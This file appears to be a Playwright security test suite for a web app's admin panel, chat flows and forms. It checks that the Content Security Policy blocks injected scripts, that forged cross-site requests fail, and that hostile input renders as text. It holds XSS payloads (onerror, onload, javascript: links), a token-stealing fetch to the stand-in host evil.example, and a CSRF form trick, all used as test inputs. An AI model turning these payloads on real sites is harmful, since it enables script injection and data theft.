import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { xssPayloads } from '#test/fixtures/xss-payloads.ts';
import { contactInput } from '#test/integration/harness/contact-input.ts';
import { expect, test, unique } from './fixtures.ts';
import { hydrate } from './hydrate.ts';

test('blocks injected scripts: inline, as a handler, as a link, from another host [HTTP-002]', async ({
  page,
  adminToken,
  allowErrors,
}) => {
  // The blocked frame has no storage, and the image doesn't exist.
  allowErrors(/Content Security Policy|request to another host|localStorage|404/);
  await page.addInitScript((token) => localStorage.setItem('admin-token', token), adminToken);
  for (const address of ['/pricing', '/admin']) {
    await page.goto(address);
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) =>
        seen.push(`${effectiveDirective} ${disposition}`),
      );
      const script = (fill: (element: HTMLScriptElement) => void) => {
        const element = document.createElement('script');
        fill(element);
        document.body.append(element);
      };
      const hit = 'window.hit = (window.hit ?? 0) + 1';
      script((element) => {
        element.textContent = hit;
      });
      script((element) => {
        element.src = `data:text/javascript,${hit}`;
      });
      script((element) => {
        element.src = 'https://evil.example/x.js';
      });
      const box = document.createElement('div');
      box.innerHTML = `<button onclick="${hit}">x</button><a href="javascript:${hit}">x</a><img src="nothing" onerror="${hit}">`;
      document.body.append(box);
      box.querySelector('button')?.click();
      box.querySelector('a')?.click();
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      await fetch('https://evil.example/steal', { method: 'POST', body: 'token' }).catch(() => undefined);
      // The frame's report arrives last. Keep waiting a little, in case reports arrive that shouldn't.
      for (let waited = 0; waited < 5000 && !seen.some((one) => one.startsWith('frame-src')); waited += 50)
        await new Promise((resolve) => setTimeout(resolve, 50));
      await new Promise((resolve) => setTimeout(resolve, 100));
      return seen;
    });
    expect(await page.evaluate(() => (window as { hit?: number }).hit)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
    const blocked = [...new Set(violations)].sort();
    expect(blocked, address).toEqual([
      'base-uri enforce',
      'connect-src enforce',
      'frame-src enforce',
      'script-src-attr enforce',
      'script-src-elem enforce',
    ]);
    // Inline script, data: script, foreign script and javascript: link.
    expect(violations.filter((one) => one.startsWith('script-src-elem')).length).toBe(4);
    expect(violations.filter((one) => one.startsWith('script-src-attr')).length).toBe(2);
  }
});

test('rejects requests from another site’s page with a visitor’s cookies [HTTP-018]', async ({
  page,
  request,
  baseURL,
  adminToken,
  allowErrors,
}) => {
  allowErrors(/./);
  const site = String(baseURL);
  await page.goto('/flows');
  // The list's response sets the cookie of the workspace that owns the flow.
  await expect(page.getByRole('heading', { name: 'No conversation flows yet' })).toBeVisible();
  const name = unique('Mine');
  const flow = await page.evaluate(
    async (text) =>
      (
        await fetch('/api/flows', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ name: text, flowData: { nodes: [], connections: [] } }),
        })
      ).json() as Promise<{ id: string }>,
    name,
  );
  const likes = async () =>
    ((await (await request.get('/api/blog/posts/1')).json()) as { likes: number }).likes;
  const before = await likes();

  const server = createServer((_request, response) => {
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><title>Another site</title>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const company = unique('Forged');
  let tried = 0;
  page.on('request', (sent) => {
    if (sent.url().startsWith(`${site}/api/`)) tried += 1;
  });
  try {
    for (const host of ['127.0.0.1', 'localhost']) {
      await page.goto(`http://${host}:${port}/`);
      const readable = await page.evaluate(
        async ({ site: target, id, lead }) => {
          const writes: [string, string, unknown][] = [
            ['POST', '/api/blog/posts/1/like', { increment: true }],
            ['POST', '/api/contact', lead],
            ['POST', '/api/flows', { name: 'x', flowData: { nodes: [], connections: [] } }],
            ['POST', '/api/blog/posts/1/view', undefined],
            ['PUT', `/api/flows/${id}`, { name: 'taken over' }],
            ['DELETE', `/api/flows/${id}`, undefined],
          ];
          let read = 0;
          for (const [method, path, body] of writes)
            for (const type of ['application/json', 'text/plain'])
              for (const mode of ['cors', 'no-cors'] as const)
                await fetch(target + path, {
                  method,
                  mode,
                  credentials: 'include',
                  headers: { 'content-type': type },
                  body: JSON.stringify(body),
                }).then(
                  (answer) => {
                    if (answer.type !== 'opaque') read += 1;
                  },
                  () => undefined,
                );
          await fetch(`${target}/api/flows`, { credentials: 'include' }).then(
            () => {
              read += 1;
            },
            () => undefined,
          );
          // A form whose text/plain body parses as JSON.
          const form = document.createElement('form');
          form.method = 'POST';
          form.enctype = 'text/plain';
          form.action = `${target}/api/contact`;
          const input = document.createElement('input');
          input.name = JSON.stringify(lead).slice(0, -1);
          input.value = '"}';
          form.append(input);
          document.body.append(form);
          form.submit();
          return read;
        },
        { site, id: flow.id, lead: contactInput({ company }) },
      );
      expect(readable).toBe(0);
      await page.waitForURL(`${site}/api/contact`);
    }
  } finally {
    server.close();
  }
  expect(tried).toBeGreaterThan(40);

  await page.goto('/flows');
  await expect(page.getByRole('heading', { name })).toBeVisible();
  expect(await likes()).toBe(before);
  const list = await request.get('/api/admin/contact-submissions', {
    headers: { 'x-admin-session': adminToken },
  });
  expect(await list.text()).not.toContain(company);
});

test('shows hostile input as text on every screen [HTTP-028]', async ({
  adminPage: page,
  api,
  request,
  adminToken,
}) => {
  test.slow();
  const short = xssPayloads.filter((text) => text.length <= 90);
  const tag = unique('Hostile');
  const pieces = 12;
  const piece = (index: number) => xssPayloads.filter((_, at) => at % pieces === index).join('\n');
  for (let index = 0; index < pieces; index++) {
    const [first = '', last = '', company = '', source = ''] = short.slice(index * 4);
    const person = {
      firstName: first,
      lastName: last,
      company: `${tag} ${company}`,
      email: `x${index}@example.com`,
    };
    const context = {
      page: first,
      referrer: `javascript:window.hit=1`,
      utm: { utm_source: source, utm_campaign: last },
      template: source.slice(0, 80),
      plan: '<img src=x onerror=window.hit=1>',
      transcript: [{ role: 'user', content: piece(index).slice(0, 2000) }],
    };
    const lead = { ...person, service: 'sales-automation', message: piece(index).slice(0, 5000), context };
    expect((await api('POST', '/api/contact', lead)).status).toBe(201);
    const booking = {
      ...person,
      phone: '<svg/onload=window.hit=1>',
      message: piece(index).slice(0, 5000),
      context,
    };
    expect((await api('POST', '/api/consultations', booking)).status).toBe(201);
  }
  const headers = { 'x-admin-session': adminToken };
  // Spam creates no project, so add this one by hand.
  const client = {
    companyName: `${tag} <img src=x onerror=window.hit=1>`,
    clientName: short[20],
    clientEmail: 'x@example.com',
    notes: piece(1).slice(0, 4000),
    currentChallenges: piece(2).slice(0, 4000),
  };
  const added = await request.post('/api/admin/client-projects', { data: client, headers });
  expect(added.status(), await added.text()).toBe(201);
  const flow = {
    name: `${tag} <img src=x onerror=window.hit=1>`,
    description: piece(3).slice(0, 400),
    industry: '<svg/onload=window.hit=1>',
    flowData: {
      nodes: [
        {
          id: 'start',
          type: 'start',
          position: { x: 0, y: 0 },
          data: { message: piece(4).slice(0, 1500) },
        },
        {
          id: 'pick',
          type: 'quick_reply',
          data: {
            message: short[1],
            retry: short[2],
            variable: 'choice',
            options: [{ id: 'o1', label: short[3]?.slice(0, 80), value: short[4]?.slice(0, 80) }],
          },
        },
        { id: 'end', type: 'end', data: { outcome: short[5]?.slice(0, 40), message: short[6] } },
      ],
      connections: [
        { from: 'start', to: 'pick' },
        { from: 'pick', to: 'end' },
      ],
      translations: { de: { 'pick.message': short[7], 'pick.option.o1': short[8]?.slice(0, 80) } },
    },
  };
  const made = (await (await request.post('/api/flows', { data: flow, headers })).json()) as {
    id: string;
    uuid: string;
  };
  const placement = {
    ...{ id: 'p', trigger: 'chip', label: '<img src=x onerror=window.hit=1>', pages: ['/blog'], topics: [] },
    ...{ seconds: 20, languages: [], share: 100, priority: 50, paused: false },
  };
  const live = { isActive: true, placements: [placement] };
  const published = await request.put(`/api/flows/${made.id}`, { data: live, headers });
  expect(published.ok(), await published.text()).toBe(true);

  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  /** Expects no inline handlers, frames, forms to other hosts or executable URLs. */
  const expectClean = async () => {
    const found = await page.evaluate(() => ({
      hit: (window as { hit?: number }).hit,
      odd: [...document.querySelectorAll('*')]
        .filter(
          (element) =>
            [...element.attributes].some(
              ({ name, value }) =>
                name.startsWith('on') || /^\s*(javascript|vbscript|data:text)/i.test(value),
            ) || /^(IFRAME|OBJECT|EMBED|BASE|MARQUEE|MATH)$/.test(element.tagName),
        )
        .map(({ outerHTML }) => outerHTML.slice(0, 200)),
    }));
    expect(found).toEqual({ hit: undefined, odd: [] });
  };

  for (const [tab, text] of [
    ['contacts', 'Search by name, email, company, service, or message...'],
    ['bookings', 'Search bookings...'],
    ['clients', undefined],
  ] as const) {
    await page.goto(`/admin?tab=${tab}`);
    const search = text ? page.getByPlaceholder(text) : page.getByRole('searchbox').first();
    await search.fill(tag);
    await expect(page.getByText(tag).first()).toBeVisible({ timeout: 35_000 });
    await expectClean();
  }
  await page.goto(`/admin?tab=contacts&q=${encodeURIComponent(tag)}`);
  await page
    .getByRole('button', { name: /^More for/ })
    .first()
    .click();
  await page.getByRole('menuitem', { name: 'Story' }).click();
  await expect(page.getByRole('dialog').getByText('window.hit=1').first()).toBeVisible();
  await expectClean();
  await page.keyboard.press('Escape');
  await page.getByText('Board', { exact: true }).first().click();
  await expect(page.getByText(tag).first()).toBeVisible();
  await expectClean();
  await page.goto('/flows');
  await expect(page.getByText(tag).first()).toBeVisible();
  await expectClean();
  await page.goto(`/f/${made.uuid}`);
  await expect(page.getByText('window.hit=1').first()).toBeVisible();
  await page.getByRole('textbox').fill('<svg/onload=window.hit=1> fits nothing');
  const answered = page.waitForResponse((answer) => /\/sessions\/[^/]+$/.test(answer.url()));
  await page.getByRole('button', { name: 'Send' }).click();
  expect((await answered).ok()).toBe(true);
  await expectClean();
  await page.goto(`/flows?tab=results&flow=${made.id}`);
  await expect(page.getByText('fits nothing').first()).toBeVisible();
  await page.getByRole('region', { name: 'Answers', exact: true }).getByRole('button').first().click();
  await expect(page.getByRole('dialog').getByText('fits nothing').first()).toBeVisible();
  await expectClean();
  await page.goto(`/flows/${made.id}`);
  await expect(page.getByText('window.hit=1').first()).toBeVisible();
  await expectClean();
  await page.goto('/blog');
  await page.getByRole('button', { name: 'Open chat' }).click();
  await page.getByRole('button', { name: '<img src=x' }).click();
  await expect(page.getByRole('log').getByText('window.hit=1').first()).toBeVisible();
  await expectClean();
  await request.delete(`/api/flows/${made.id}`, { headers });
  expect(dialogs).toBe(0);
});

test('reloads once and keeps typed text when a new version replaced the page’s scripts [HTTP-045]', async ({
  page,
  allowErrors,
}) => {
  allowErrors(/404|Failed to (load|fetch)|dynamically imported/);
  await page.goto('/');
  await hydrate(page);
  await page.getByLabel('First name').fill('Zoë');
  await page
    .getByRole('textbox', { name: 'Message', exact: true })
    .fill('Half a sentence that took me a while');
  let documents = 0;
  page.on('request', (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) documents += 1;
  });
  // This page's old files are gone; the next document names existing ones.
  await page.route('**/assets/*.js', (route) =>
    documents === 0 ? route.fulfill({ status: 404, body: 'gone' }) : route.continue(),
  );
  const reloaded = page.waitForEvent('load');
  await page.getByRole('link', { name: 'Blog' }).first().click();
  await reloaded;
  await expect(page).toHaveURL(/\/blog$/);
  await hydrate(page);
  // The visitor continues to the next page and finds the text on return.
  await page.getByRole('link', { name: 'Contact' }).first().click();
  await expect(page.getByLabel('First name')).toHaveValue('Zoë');
  await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toHaveValue(
    'Half a sentence that took me a while',
  );
  expect(documents).toBe(1);
});
